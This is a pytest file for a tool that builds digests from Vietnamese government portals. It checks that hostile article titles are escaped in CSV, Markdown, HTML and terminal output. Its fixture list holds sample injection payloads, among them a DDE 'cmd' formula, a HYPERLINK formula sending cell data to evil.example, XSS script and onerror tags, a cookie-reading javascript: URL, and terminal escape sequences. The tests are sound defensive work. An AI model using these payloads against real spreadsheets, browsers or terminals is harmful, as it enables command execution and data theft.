"""The same hostile portal strings through every output: CSV, Markdown, HTML and the terminal."""

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
from rich.console import Console

from portalwatch.core.models import Article, Directive, Skip
from portalwatch.reports.digest import CitedDirective, Digest, Gap, SourceLine, Story, TopicLine, render_html
from portalwatch.reports.export import write_csv
from portalwatch.reports.neutralise import terminal

# Each: a hostile title as a portal could publish it, and the visible words that must survive.
HOSTILE = [
    ("=HYPERLINK(\"http://evil.example/\"&A1,\"Bấm vào\")", "HYPERLINK"),
    ("+cmd|' /C calc'!A0 Xây dựng Đảng", "Xây dựng Đảng"),
    ("-2+3 Hội nghị tổng kết", "Hội nghị tổng kết"),
    ("@SUM(1+1) Đại hội", "Đại hội"),
    ("[Bấm đây](javascript:alert(1)) bầu cử", "bầu cử"),
    ("![theo dõi](http://tracker.example/p.png) nông thôn mới", "nông thôn mới"),
    ("<script>alert('x')</script> chuyển đổi số", "chuyển đổi số"),
    ("<img src=x onerror=alert(1)> Quốc khánh", "Quốc khánh"),
    ("Tin \x1b[31mđỏ\x1b[0m và \x1b]8;;http://evil.example\x07liên kết\x1b]8;;\x07", "liên kết"),
    ("[bold red]Rich markup[/bold red] thi đua", "thi đua"),
    ("Văn bản \u202eđảo chiều\u202c và \x00\x07 ký tự điều khiển", "ký tự điều khiển"),
    ("| cột | giả | *nhấn* _gạch_ `mã` # tiêu đề", "cột"),
]
_FORMULA_START = ("=", "+", "-", "@")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
BAD_URL = "javascript:alert(document.cookie)"


def _article(title: str, url: str = "https://binhgiang.gov.vn/tin/bai-1.html") -> Article:
    return Article(id="a1", url=url, canonical_url=url, source_id="binhgiang", title=title, lead=title,
                   body=title, published_at=datetime(2026, 11, 17, 8, 15, tzinfo=UTC), fetched_at=datetime.now(UTC),
                   content_hash="h")


def _digest(title: str, url: str) -> Digest:
    story = Story(title=title, url=url, source=title, published="17/11/2026", copies=1, topics=[title])
    return Digest(
        week="2026-W47", start=date(2026, 11, 16), end=date(2026, 11, 22), articles=1, stories=1, previous_articles=0,
        topics=[TopicLine(id="bau-cu", name="Bầu cử", articles=1, stories=1, previous=0, average=0, top=[story])],
        sources=[SourceLine(id="binhgiang", name=title, articles=1, previous=0, skipped=0, topics={"bau-cu": 1})],
        failing_sources=[title], gaps=[Gap(plan=title, source=title, topic="Bầu cử")],
        new_directives=[CitedDirective(directive=Directive(key="35-CT/TW", kind="Chỉ thị", issuer=title),
                                       articles=[story])],
        top_stories=[story],
        skips=[Skip(url=url, source_id="binhgiang", stage="crawl", reason=title, recorded_at=datetime.now(UTC))],
    )


def _markdown(digest: Digest) -> str:
    from portalwatch.reports.digest import templates

    text = templates.get_template("digest.md.j2").render(d=digest, stem="digest")
    # The digest's own two chart images are the only images it may hold; portal text adds none.
    charts = [line for line in text.splitlines() if line.startswith("![")]
    assert charts == ["![Số bài theo chủ đề](digest-topics.png)", "![Độ phủ chủ đề theo nguồn](digest-coverage.png)"]
    return "\n".join(line for line in text.splitlines() if line not in charts)


@pytest.mark.parametrize(("hostile", "kept"), HOSTILE)
def test_csv_cells_never_start_a_formula_and_carry_no_control_characters(hostile: str, kept: str) -> None:
    out = io.StringIO()
    write_csv(out, [_article(hostile)])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    for cell in rows[1]:
        assert not cell.startswith(_FORMULA_START), cell
        assert not _CONTROL.search(cell), repr(cell)
    assert kept in rows[1][3]


@pytest.mark.parametrize(("hostile", "kept"), HOSTILE)
def test_markdown_digest_makes_no_markup_from_portal_text(hostile: str, kept: str) -> None:
    text = _markdown(_digest(hostile, BAD_URL))
    assert kept in text.replace("\\", "")
    assert not _CONTROL.search(text)
    # No portal-made link, image, HTML tag or inline code: every such character is escaped.
    for unescaped in (re.compile(r"(?<!\\)!(?<!\\)\[.*(?<!\\)\]\("), re.compile(r"(?<!\\)<(script|img)"),
                      re.compile(r"(?<!\\)\]\(<?javascript", re.I)):
        assert not unescaped.search(text), unescaped.pattern


def test_markdown_links_only_to_web_addresses() -> None:
    good = _markdown(_digest("Bầu cử đại biểu HĐND", "https://binhgiang.gov.vn/tin/bau-cu (1).html"))
    assert "[Bầu cử đại biểu HĐND](<https://binhgiang.gov.vn/tin/bau-cu%20%281%29.html>)" in good
    bad = _markdown(_digest("Bầu cử đại biểu HĐND", BAD_URL))
    assert "](" not in bad


@pytest.mark.parametrize(("hostile", "kept"), HOSTILE)
def test_html_digest_escapes_portal_text_and_links_only_to_web_addresses(hostile: str, kept: str) -> None:
    page = render_html(_digest(hostile, BAD_URL), {"topics": "", "coverage": ""})
    assert kept in page
    assert "<script>alert" not in page and "<img src=x" not in page
    assert not re.search(r"href=[\"']?\s*javascript", page, re.I)
    assert not _CONTROL.search(page)


@pytest.mark.parametrize(("hostile", "kept"), HOSTILE)
def test_terminal_prints_portal_text_as_written_without_escapes(hostile: str, kept: str) -> None:
    console = Console(record=True, force_terminal=True, width=200, color_system="truecolor")
    console.print(terminal(hostile))
    shown = console.export_text()
    assert kept in shown
    assert "\x1b" not in shown and not _CONTROL.search(shown.replace("\n", ""))
    if "[bold red]" in hostile:
        assert "[bold red]" in shown  # shown, not interpreted


@pytest.mark.parametrize(("hostile", "kept"), HOSTILE)
def test_portal_text_inside_our_own_rich_markup_stays_text(hostile: str, kept: str) -> None:
    from portalwatch.reports.neutralise import markup

    console = Console(record=True, force_terminal=True, width=300, color_system="truecolor")
    console.print(f"[bold red]Lỗi:[/bold red] {markup(hostile)}")
    shown = console.export_text()
    assert shown.startswith("Lỗi: ") and kept in shown
    assert "\x1b" not in shown and not _CONTROL.search(shown.replace("\n", ""))
    if "[bold red]" in hostile:
        assert "[bold red]Rich markup[/bold red]" in shown
